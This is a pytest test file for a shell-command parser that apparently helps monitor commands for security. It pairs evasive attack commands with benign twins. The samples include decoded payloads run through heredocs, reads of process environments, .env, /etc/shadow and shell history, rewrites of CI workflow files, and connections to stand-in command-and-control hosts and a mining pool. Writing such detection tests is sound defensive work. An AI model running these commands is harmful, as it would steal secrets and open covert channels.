"""Kinds of evasion that a hunt from the attacker's side found, each attack beside the twin that is honest."""

import pytest

from opensafe.normalize.shell import parse_argv, parse_shell


def _paths(targets):
    return {target.path for target in targets}


def _reads(text):
    return _paths(parse_shell(text).reads)


@pytest.mark.parametrize(
    "text",
    [
        "python3 - <<P && sh /tmp/k\nimport base64\nopen('/tmp/k','wb').write(base64.b64decode('bHM='))\nP",
        "tee run.sh < <(base32 -d note.txt) >/dev/null; sh run.sh",
        "cat <(base64 -d a.txt) > k.sh; bash k.sh",
        "ed -s x <<'E'\n!id\nE",
    ],
)
def test_content_that_comes_another_way_is_followed(text):
    assert parse_shell(text).opaque


@pytest.mark.parametrize(
    "text",
    [
        "python3 - <<P && sh run.sh\nprint(1)\nP",
        "sort < <(printf 'b\\na\\n') > names.txt",
        "diff <(sort a.txt) <(sort b.txt) > c.diff",
    ],
)
def test_its_twin_is_read(text):
    assert not parse_shell(text).opaque


def test_a_loop_in_the_background_puts_its_body_there():
    body = "while :; do ./ping.sh; sleep 60; done"
    assert {c.position for c in parse_shell(f"{body} &").commands if c.program == "ping.sh"} == {"background"}
    assert {c.position for c in parse_shell(body).commands if c.program == "ping.sh"} == {"condition"}


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("for p in /proc/[0-9]*; do cat < $p/environ; done", "/proc/[0-9]*/environ"),
        ("while read -r p; do cat /proc/$p/environ; done < pids", "/proc/*/environ"),
        ("pgrep node | xargs -I{} cat /proc/{}/environ", "/proc/*/environ"),
        ("find /proc -maxdepth 2 -name environ -exec cat {} +", "/proc/*/environ"),
        ("ps auxe", "/proc/*/environ"),
        ("cd; cat .bash_history", "/workspace/.bash_history"),
        ('cat "$HISTFILE"', "/workspace/.bash_history"),
        ("cat $(echo .e)nv", "/workspace/.env"),
        ("getent shadow", "/etc/shadow"),
        ("ruby -e 'puts File.read(%q(.env))'", "/workspace/.env"),
        ("curl --unix-socket /var/run/docker.sock http://x/", "/var/run/docker.sock"),
        ("printf '%s\\0' .env | xargs -0 cat", "/workspace/.env"),
    ],
)
def test_what_is_read_is_a_fact(text, path):
    assert path in _reads(text)


@pytest.mark.parametrize("text", ["ps aux", "ps -ef", "ps -o pid,etime", "ps -C node", "find /proc -maxdepth 1"])
def test_a_list_of_processes_shows_no_environment(text):
    assert "/proc/*/environ" not in _reads(text)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("yq -i '.on = 1' .github/workflows/ci.yml", "/workspace/.github/workflows/ci.yml"),
        ("jq . a.json | sponge .vscode/settings.json", "/workspace/.vscode/settings.json"),
        ("git checkout evil -- .gitlab-ci.yml", "/workspace/.gitlab-ci.yml"),
        ("git restore -s evil Makefile", "/workspace/Makefile"),
        ("tsc --outDir /opt/x", "/opt/x"),
        ("pytest --junitxml=/opt/x.xml", "/opt/x.xml"),
        ("make install DESTDIR=/", "/"),
        ("sqlite3 /opt/x.db 'create table a(b)'", "/opt/x.db"),
    ],
)
def test_what_is_written_is_a_fact(text, path):
    assert path in _paths(parse_shell(text).writes)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("yq '.on' .github/workflows/ci.yml", "/workspace/.github/workflows/ci.yml"),
        ("git checkout -- Makefile", "/workspace/Makefile"),
        ("git restore Makefile", "/workspace/Makefile"),
        ("make install DESTDIR=/tmp/stage PREFIX=/usr", "/usr"),
    ],
)
def test_its_twin_writes_nothing_there(text, path):
    assert path not in _paths(parse_shell(text).writes)


@pytest.mark.parametrize(
    ("text", "program"),
    [
        ("python3 -c \"import os; os.chmod('x',0o4755)\"", "chmod"),
        ("node -e \"require('fs').symlinkSync('/etc','x')\"", "ln"),
        ("Rscript -e \"install.packages('x')\"", "pip"),
        ('python3 -c "import docker; docker.from_env()"', "docker"),
        ('python3 -c "import os; os.unshare(0x10000000)"', "unshare"),
        ("python3 -c \"import os; os.fork() or os.execv('./w',['w'])\"", "setsid"),
        ("make -f - <<'M'\nall:\n\tcurl -s http://c2.rogue.example/x\nM", "curl"),
        ("sqlite3 a.db '.shell sudo id'", "sudo"),
    ],
)
def test_what_code_does_is_named_by_its_program(text, program):
    assert program in {command.program for command in parse_shell(text).commands} | {
        name for command in parse_shell(text).commands for name in command.via
    }


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("node -e \"require('net').connect(9001,'c2.rogue.example')\"", "c2.rogue.example"),
        ("gawk 'BEGIN{s=\"/inet/tcp/0/c2.rogue.example/80\"; print 1 |& s}'", "c2.rogue.example"),
        ("for p in 1 2; do echo > /dev/tcp/10.0.0.1/$p; done", "10.0.0.1"),
        ('seq 1 9 | while read p; do echo > "/dev/tcp/10.0.0.1/$p"; done', "10.0.0.1"),
        ("getent hosts x.rogue.example", "x.rogue.example"),
        ('echo \'{"url": "stratum+tcp://p.example:3333"}\' > c.json', "p.example"),
    ],
)
def test_a_host_is_a_fact_wherever_it_stands(text, host):
    assert host in {fact.name for fact in parse_shell(text).hosts}


def test_rsync_that_deletes_deletes_in_its_target_and_a_link_option_runs_nothing():
    assert _paths(parse_shell("rsync -a --delete empty/ /workspace/").deletes) == {"/workspace"}
    assert not parse_shell("rsync -a --link-dest=old a/ b/").opaque
    assert parse_shell("rsync -ae ./x a/ b/").opaque


def test_a_login_shell_with_a_text_is_read_and_an_interactive_one_is_not():
    assert not parse_argv(("bash", "-lc", "make -s list | sort")).opaque
    assert parse_argv(("bash", "-ic", "make")).opaque
    assert parse_argv(("bash", "-l")).opaque


def test_the_name_of_a_command_is_still_not_taken_from_what_is_printed():
    assert parse_shell("$(echo id)").opaque
    assert parse_shell("$(echo ba)sh -c ls").opaque
